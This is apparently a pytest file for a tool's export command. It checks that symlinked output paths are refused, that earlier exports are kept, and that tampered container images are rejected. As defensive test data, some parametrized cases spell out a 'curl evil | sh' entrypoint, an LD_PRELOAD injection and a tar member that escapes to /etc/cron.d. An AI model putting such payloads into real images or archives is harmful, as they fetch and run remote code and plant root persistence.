"""Attacks on `flakebot export`'s host steps, on real files: an output directory or file name that is a link, an
earlier export overwritten, and a built image that is not what flakebot asked for (root user, another entrypoint,
layers that do not match their digests, a member leaving the archive, no writable /tmp)."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import tarfile
from pathlib import Path
from typing import Any

import pytest

from flakebot.errors import UnsafePath, UsageError
from flakebot.services import nixos, oci
from flakebot.services.declaration import ServiceSpec
from flakebot.services.exportfiles import ExportDir

STORE = "/nix/store/0000000000000000000000000000000a-kv-service-0.1.0"


@pytest.fixture
def manifest() -> dict[str, Any]:
    spec = ServiceSpec(port=9090, port_env="KV_PORT").to_dict()
    return {"name": "kv-service", "main_program": "kv-service", "store_path": STORE, "version": "0.1.0",
            "service": spec}  # fmt: skip


# ---------------------------------------------------------------- where export writes


def test_an_output_directory_that_is_a_link_is_refused_and_nothing_lands_at_its_target(
    manifest: dict[str, Any], tmp_path: Path
) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "out").symlink_to(elsewhere)
    with pytest.raises(UsageError, match="symbolic link"):
        nixos.export_nixos(manifest, ExportDir(tmp_path / "out"), run_check=False)
    assert list(elsewhere.iterdir()) == []


def test_a_link_at_the_file_name_is_never_written_through(manifest: dict[str, Any], tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    out = tmp_path / "out"
    out.mkdir()
    (out / "flakebot-kv-service.nix").symlink_to(victim)
    with pytest.raises(UsageError, match="exists"):
        nixos.export_nixos(manifest, ExportDir(out), run_check=False)
    nixos.export_nixos(manifest, ExportDir(out, force=True), run_check=False)  # replaces the link itself
    assert victim.read_text() == "precious\n"
    assert not (out / "flakebot-kv-service.nix").is_symlink()
    assert "services.flakebot-kv-service" in (out / "flakebot-kv-service.nix").read_text()


def test_an_earlier_export_is_kept_without_force(manifest: dict[str, Any], tmp_path: Path) -> None:
    nixos.export_nixos(manifest, ExportDir(tmp_path), run_check=False)
    module = tmp_path / "flakebot-kv-service.nix"
    module.write_text("# edited by its owner\n")
    with pytest.raises(UsageError, match="exists"):
        nixos.export_nixos(manifest, ExportDir(tmp_path), run_check=False)
    assert module.read_text() == "# edited by its owner\n"


# ---------------------------------------------------------------- the built image, read as hostile input


def _tar(entries: list[tuple[tarfile.TarInfo, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for info, data in entries:
            info.size = len(data) if info.isfile() else 0
            archive.addfile(info, io.BytesIO(data) if info.isfile() else None)
    return buffer.getvalue()


def _entry(name: str, kind: bytes = tarfile.DIRTYPE, mode: int = 0o755, uid: int = 0) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.mode, info.uid, info.gid = kind, mode, uid, uid
    return info


def _root_layer(tmp_mode: int = 0o1777, state_uid: int = 65534) -> bytes:
    return _tar([(_entry("tmp", mode=tmp_mode), b""), (_entry("var"), b""), (_entry("var/lib"), b""),
                 (_entry("var/lib/flakebot-kv-service", mode=0o700, uid=state_uid), b"")])  # fmt: skip


def _archive(tmp_path: Path, *, config: dict[str, Any] | None = None, layer: bytes | None = None,
             diff_id: str | None = None, extra: tuple[str, bytes] | None = None) -> Path:  # fmt: skip
    """A docker-archive as buildLayeredImage writes it (gzip'd), with one thing changed."""
    layer = layer if layer is not None else _root_layer()
    image_config = {
        "Entrypoint": [f"{STORE}/bin/kv-service"],
        "Env": [
            "KV_PORT=9090",
            "LISTEN_ADDRESS=0.0.0.0",
            "STATE_DIRECTORY=/var/lib/flakebot-kv-service",
            "TMPDIR=/tmp",
        ],
        "ExposedPorts": {"9090/tcp": {}},
        "Labels": {"io.flakebot.network": "none"},
        "User": "65534:65534",
        **(config or {}),
    }
    digest = hashlib.sha256(layer).hexdigest()
    document = {"config": image_config, "rootfs": {"type": "layers", "diff_ids": [diff_id or f"sha256:{digest}"]}}
    config_bytes = json.dumps(document).encode()
    files = [
        (_entry("manifest.json", tarfile.REGTYPE, 0o644),
         json.dumps([{"Config": "c.json", "RepoTags": ["flakebot-kv-service:0.1.0"],
                      "Layers": [f"{digest}/layer.tar"]}]).encode()),
        (_entry("c.json", tarfile.REGTYPE, 0o644), config_bytes),
        (_entry(f"{digest}/layer.tar", tarfile.REGTYPE, 0o644), layer),
    ]  # fmt: skip
    if extra:
        files.append((_entry(extra[0], tarfile.REGTYPE, 0o644), extra[1]))
    path = tmp_path / "image.tar.gz"
    path.write_bytes(gzip.compress(_tar(files)))
    return path


def test_an_image_as_asked_for_passes_and_becomes_a_layout(manifest: dict[str, Any], tmp_path: Path) -> None:
    image = oci.read_archive(_archive(tmp_path))
    assert oci.check_config(image, manifest)["User"] == "65534:65534"
    files = oci.layout_files(image, "kv-service")
    index = json.loads(files["index.json"])
    [described] = index["manifests"]
    assert described["annotations"]["org.opencontainers.image.ref.name"] == "0.1.0"
    assert f"blobs/sha256/{described['digest'].removeprefix('sha256:')}" in files


@pytest.mark.parametrize(
    ("change", "why"),
    [
        ({"config": {"User": "0:0"}}, "non-root"),
        ({"config": {"User": ""}}, "non-root"),
        ({"config": {"User": "root"}}, "non-root"),
        ({"config": {"User": "app"}}, "numeric"),
        ({"config": {"Entrypoint": ["/bin/sh", "-c", "curl evil | sh"]}}, "entrypoint"),
        ({"config": {"Cmd": ["--debug"]}}, "entrypoint"),
        (
            {"config": {"Env": ["KV_PORT=9090", "STATE_DIRECTORY=/var/lib/flakebot-kv-service", "LD_PRELOAD=/x.so"]}},
            "environment",
        ),
        ({"config": {"ExposedPorts": {"22/tcp": {}}}}, "exposes"),
        # the service would listen on the container's loopback only: a published port gets no answer
        (
            {
                "config": {
                    "Env": ["KV_PORT=9090", "LISTEN_ADDRESS=127.0.0.1", "STATE_DIRECTORY=/var/lib/flakebot-kv-service"]
                }
            },
            "environment",
        ),
        ({"config": {"Labels": {"io.flakebot.network": "outbound"}}}, "labels"),  # not exported with --network
        ({"config": {"Labels": {}}}, "labels"),
        ({"diff_id": "sha256:" + "0" * 64}, "digests"),
        ({"extra": ("../../etc/cron.d/x", b"* * * * * root sh\n")}, "not a plain file"),
        ({"layer": _root_layer(tmp_mode=0o755)}, "/tmp"),
        ({"layer": _root_layer(state_uid=0)}, "state directory"),
    ],
)
def test_a_hostile_image_is_refused(manifest: dict[str, Any], tmp_path: Path, change: dict[str, Any], why: str) -> None:
    with pytest.raises(UnsafePath, match=why):
        oci.check_config(oci.read_archive(_archive(tmp_path, **change)), manifest)


def test_a_layout_is_written_whole_and_an_existing_one_kept_without_force(tmp_path: Path) -> None:
    from flakebot.services.exportfiles import ExportDir

    ExportDir(tmp_path).write_tree("img.oci", {"index.json": b"{}", "blobs/sha256/ab": b"x"})
    with pytest.raises(UsageError, match="exists"):
        ExportDir(tmp_path).write_tree("img.oci", {"index.json": b"{2}"})
    assert (tmp_path / "img.oci" / "index.json").read_bytes() == b"{}"
    ExportDir(tmp_path, force=True).write_tree("img.oci", {"index.json": b"{2}"})
    assert sorted(p.name for p in tmp_path.iterdir()) == ["img.oci"]  # no staging or old copy left
    assert sorted(p.name for p in (tmp_path / "img.oci").iterdir()) == ["index.json"]


def test_an_image_of_a_service_with_needs_carries_them_in_its_label(manifest: dict[str, Any], tmp_path: Path) -> None:
    """An engine starts none of what a service needs: the image names them (io.flakebot.needs), and one without
    that label, or naming others, is not the image asked for."""
    needing = {**manifest, "service": ServiceSpec(port=9090, port_env="KV_PORT", needs=("auth", "kv-store")).to_dict()}
    labels = {"io.flakebot.network": "none", "io.flakebot.needs": "auth,kv-store"}
    assert oci.check_config(oci.read_archive(_archive(tmp_path, config={"Labels": labels})), needing)
    text = oci.service_outputs.image_text("kv-service", "0.1.0", "kv-service", needing["service"])
    assert '"io.flakebot.needs" = "auth,kv-store";' in text
    for wrong in ({"io.flakebot.network": "none"}, {**labels, "io.flakebot.needs": "auth"}):
        with pytest.raises(UnsafePath, match="labels"):
            oci.check_config(oci.read_archive(_archive(tmp_path, config={"Labels": wrong})), needing)


@pytest.mark.slow
def test_a_need_that_is_a_catalogued_tool_is_named_as_a_tool_at_export(flakebot_home: Path) -> None:
    """A service declared as needing a name the catalog holds for a tool: export refuses it saying so, and never
    "package it first ('package-service --name NAME')", which the catalog would refuse (the name is the tool's)."""
    from benchmarks.scenarios.many_tools import Tools, store_path
    from tests.conftest import REPO, require, run_cli

    require("nix", "cargo", "bwrap", "pasta")
    Tools(flakebot_home, store_path(flakebot_home, nix=False)).grow(1)  # t00001, a tool
    packaged = run_cli("package-service", str(REPO / "tests" / "fixtures" / "kv-service"), "--offline",
                       "--name", "kv-needs-tool", "--needs", "t00001", "--stop-grace", "2", "--start-timeout", "4")  # fmt: skip
    assert packaged.returncode == 0, packaged.stderr
    for target in ("--nixos", "--oci"):
        out = flakebot_home / target.strip("-")
        ran = run_cli("export", "kv-needs-tool", target, "--out", str(out))
        assert ran.returncode == 60 and "Traceback" not in ran.stderr, ran.stderr
        assert "needs t00001, which is a tool, not a service" in ran.stderr, ran.stderr
        assert "package-service PATH --name t00001" not in ran.stderr and not out.exists(), ran.stderr


@pytest.mark.slow
def test_services_that_need_each_other_are_refused_at_export_as_up_refuses_them(flakebot_home: Path) -> None:
    """kv-c1 needs kv-c2 and kv-c2 needs kv-c1: `up` refuses the cycle; export did not, writing units that Require
    and order After each other (a cycle systemd breaks by dropping a start). Refused in the same words, nothing
    written."""
    from tests.conftest import REPO, require, run_cli

    require("nix", "cargo", "bwrap", "pasta")
    for name, need in (("kv-c1", "kv-c2"), ("kv-c2", "kv-c1")):
        packaged = run_cli("package-service", str(REPO / "tests" / "fixtures" / "kv-service"), "--offline",
                           "--name", name, "--needs", need, "--stop-grace", "2", "--start-timeout", "4")  # fmt: skip
        assert packaged.returncode == 0, packaged.stderr
    for target in ("--nixos", "--oci"):
        out = flakebot_home / target.strip("-")
        ran = run_cli("export", "kv-c1", target, "--out", str(out))
        assert ran.returncode == 2 and "Traceback" not in ran.stderr, ran.stderr
        assert "services need each other in a cycle: kv-c1 -> kv-c2 -> kv-c1" in ran.stderr and not out.exists()
